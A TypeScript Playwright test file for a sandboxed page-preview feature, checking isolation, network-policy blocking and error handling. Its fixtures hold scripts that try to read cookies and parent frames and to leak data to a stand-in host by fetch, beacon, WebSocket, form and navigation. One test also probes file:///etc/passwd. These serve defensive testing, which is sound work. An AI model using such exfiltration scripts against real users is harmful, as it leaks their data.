import { createOutboundHttp, type OutboundHttp, systemAmbient } from '@fucina/shared';
import { redirectOrigins } from '@fucina/testkit';
import { afterAll, beforeAll, expect } from '@jest/globals';
import type { Browser, FrameLocator, Page } from 'playwright-core';
import { html, type Site, startSite } from './browser-fixture.ts';
import { type TestServer, testServer } from './harness.ts';
import { faults, fitsWindow, launchBrowser, openView, type Visit, visit, WINDOW_FOLDER, walk } from './window-visit.ts';

const FORGE = 'https://forge.example';
const page = (title: string, body: string) =>
  `<!doctype html><html lang="en"><head><title>${title}</title></head><body>${body}</body></html>`;
/** Tries what a page must not be able to do, and records the results. */
const PRYING = `<p id="pried">wait</p><script>
  (async () => {
    const found = [];
    try { found.push(document.cookie) } catch { found.push('no cookie') }
    try { found.push(parent.document.title) } catch { found.push('no parent') }
    try { await fetch(new URL('/api/v1/sessions', location.href), { credentials: 'include' }); found.push('asked') } catch { found.push('no answer') }
    document.getElementById('pried').textContent = found.join(', ');
  })();
</script>`;

/** Sends what it knows to another site, in every way that a page has, and uses one that is allowed. */
const LEAVING = `<p id="state">wait</p><img src="https://elsewhere.example/image?known">
  <script src="https://allowed.example/script.js"></script><iframe name="inner" src="https://elsewhere.example/frame?known"></iframe>
  <form id="form" method="post" action="https://elsewhere.example/form"><input name="known" value="1">
  <button>Send</button></form><button onclick="location.href = 'https://elsewhere.example/?known'">Leave</button>
  <script>
    (async () => {
      await fetch('https://elsewhere.example/fetch?known', { mode: 'no-cors' }).catch(() => undefined);
      navigator.sendBeacon('https://elsewhere.example/beacon', 'known');
      try { new WebSocket('wss://elsewhere.example/socket?known') } catch {}
      try { new EventSource('https://elsewhere.example/events?known') } catch {}
      document.getElementById('state').textContent = window.allowed + ', tried';
    })();
  </script>`;

let site: Site;
let http: OutboundHttp;
let server: TestServer;
let browser: Browser | undefined;
let session: string;
beforeAll(async () => {
  site = await startSite({
    '/': html(
      page(
        'App',
        `<h1>Forge</h1><button id="go" style="color: rgb(10, 20, 30)">Start \`\`\`</button> <a href="/next">Next</a>${PRYING}`,
      ),
    ),
    '/next': html(page('Next', '<p>The next page</p>')),
    '/data': (response) => void response.writeHead(200, { 'content-type': 'application/json' }).end('{}'),
    '/denied': html(page('Oil', '<p>Cool it in oil.</p>'), { 'x-frame-options': 'DENY' }),
    '/leaving?Send': html(page('Leaving', LEAVING)),
    '/leaving?Leave': html(page('Leaving', LEAVING)),
    '/open': html(page('Open', '<p>Steel for reading.</p>')),
  });
  http = createOutboundHttp({ ambient: systemAmbient('silent') });
  server = await testServer({ windowFolder: WINDOW_FOLDER, http: redirectOrigins(http, { [FORGE]: site.url }) });
  browser = await launchBrowser();
  session = await server.startSession();
  await server.settled(session);
});
afterAll(async () => {
  await browser?.close();
  await server[Symbol.asyncDispose]();
  await http[Symbol.asyncDispose]();
  await site[Symbol.asyncDispose]();
});

async function enter(options: Parameters<typeof visit>[1] = {}): Promise<Visit> {
  const place = await visit({ browser: browser as Browser, server, path: `/sessions/${session}` }, options);
  await openView(place.page, 'Preview');
  await place.page.getByText('No open page').waitFor();
  return place;
}

/** A page of this computer: a frame in the one that limits where it leads. */
const framed = (window: Page): FrameLocator => window.frameLocator('iframe.page-frame').frameLocator('iframe');

async function open(place: Visit, url: string): Promise<void> {
  await place.page.getByRole('textbox', { name: 'Page address' }).fill(url);
  await place.page.keyboard.press('Enter');
}

walk('shows a development server sandboxed and adds an element to the draft', async () => {
  await using place = await enter();
  const { page: window, complaints } = place;
  expect(await faults(window)).toEqual([]);
  await open(place, `127.0.0.1:${site.port}`);
  const frame = framed(window);
  await frame.getByText('no cookie, no parent, no answer').waitFor();
  for (const { rawHeaders } of site.asked) expect(rawHeaders.join('\n')).not.toContain('svc_token');
  expect(await faults(window)).toEqual([]);

  await window.getByRole('button', { name: 'Select an element' }).click();
  await frame.getByRole('button', { name: /Start/ }).click();
  await window.getByText('In your draft:').waitFor();
  await window.getByText('#go', { exact: true }).waitFor();
  expect(await faults(window)).toEqual([]);

  // With the keyboard only; Escape cancels.
  const select = async (key: string) => {
    await window.getByRole('button', { name: 'Select an element' }).press('Enter');
    // The page shows that it is selecting: the window asks it by a message.
    await frame.locator('html[style*="crosshair"]').waitFor();
    await frame.getByRole('link', { name: 'Next' }).focus();
    await window.keyboard.press(key);
  };
  await select('Enter');
  await window.getByText('body > a', { exact: false }).waitFor();
  await select('Escape');
  await window.getByText('Click an element').waitFor({ state: 'detached' });

  await frame.getByRole('link', { name: 'Next' }).click();
  await frame.getByText('The next page').waitFor();
  await window.waitForURL((url) => url.searchParams.get('url') === `http://localhost:${site.port}/next`);

  await window.getByRole('navigation').getByRole('link', { name: 'Conversation' }).click();
  const draft = await window.getByRole('textbox', { name: /message/i }).inputValue();
  expect(draft).toContain('```css\n#go\n```\n````html\n<button id="go"');
  expect(draft).toContain('color: rgb(10, 20, 30)');
  expect(complaints).toEqual([]);
});

walk('keeps a page of this computer from sites that the network policy does not allow, and names them', async () => {
  await using place = await enter();
  const { page: window } = place;
  const reached: string[] = [];
  await window.context().route(/^(?:https|wss):/, (route) => {
    reached.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: 'window.allowed = "allowed"' });
  });
  await server.call('POST', '/ext/sandbox/rules', { body: { regola: 'Network(allowed.example)', sessionId: session } });
  for (const [button, complaint] of [
    ['Send', /^Sending form data .* violates .* "form-action /],
    ['Leave', /^Framing .* violates .* "frame-src 'self' /],
  ] as const) {
    await open(place, `${site.url}/leaving?${button}`);
    await framed(window).getByText('allowed, tried').waitFor();
    await window.getByText('Blocked by this session’s network policy: elsewhere.example.').waitFor();
    expect(await faults(window)).toEqual([]);
    const stopped = window.waitForEvent('console', (line) => complaint.test(line.text()));
    await framed(window).getByRole('button', { name: button }).click();
    await stopped;
  }
  expect([...new Set(reached)]).toEqual(['https://allowed.example/script.js']);
});

walk('reports a response that is not a page and retries', async () => {
  await using place = await enter();
  const { page: window, complaints } = place;
  await open(place, 'file:///etc/passwd');
  await window.getByText('Not a valid page address.').waitFor();
  await open(place, `${site.url}/data`);
  await window.getByRole('alert').waitFor();
  expect(await faults(window)).toEqual([]);
  site.pages['/data'] = html(page('Data', '<p>Now a page</p>'));
  await window.getByRole('button', { name: 'Try again' }).click();
  await framed(window).getByText('Now a page').waitFor();
  await open(place, server.url);
  await window.getByText('Fucina cannot be shown inside itself').waitFor();
  await open(place, 'https://10.0.0.1/');
  await window.getByText('Could not reach this address.').waitFor();
  expect(complaints).toEqual([]);
});

walk('frames a web page that allows it and shows the others as text', async () => {
  await using place = await enter();
  const { page: window, complaints } = place;
  await window
    .context()
    .route(`${FORGE}/**`, (route) =>
      route.fulfill({ contentType: 'text/html', body: page('Open', '<p>Drawn by the browser</p>') }),
    );
  await open(place, 'forge.example/open');
  await window.frameLocator('iframe.page-frame').getByText('Drawn by the browser').waitFor();
  expect(await window.locator('iframe.page-frame').getAttribute('sandbox')).toBe('allow-scripts allow-forms');
  await window.getByRole('button', { name: 'Read as text' }).click();
  await window.getByRole('group', { name: 'Page text' }).getByText('Steel for reading.').waitFor();
  await open(place, 'forge.example/denied');
  await window.getByText('This site does not allow embedding.').waitFor();
  await window.getByText('Cool it in oil.').waitFor();
  expect(await faults(window)).toEqual([]);
  await window.keyboard.press('Control+KeyK');
  await window.getByRole('option', { name: 'Preview', exact: true }).waitFor();
  expect(complaints).toEqual([]);
});

walk('works narrow, dark and in Italian', async () => {
  await using place = await visit(
    { browser: browser as Browser, server },
    { viewport: { width: 390, height: 844 }, colorScheme: 'dark', locale: 'it-IT' },
  );
  const { page: window, complaints } = place;
  await window.goto(new URL(`/sessions/${session}/page?url=${encodeURIComponent(site.url)}`, server.url).href);
  await framed(window).getByRole('heading', { name: 'Forge' }).waitFor();
  await window.getByRole('button', { name: 'Seleziona un elemento' }).waitFor();
  await fitsWindow(window);
  expect(await faults(window)).toEqual([]);
  expect(complaints).toEqual([]);
});
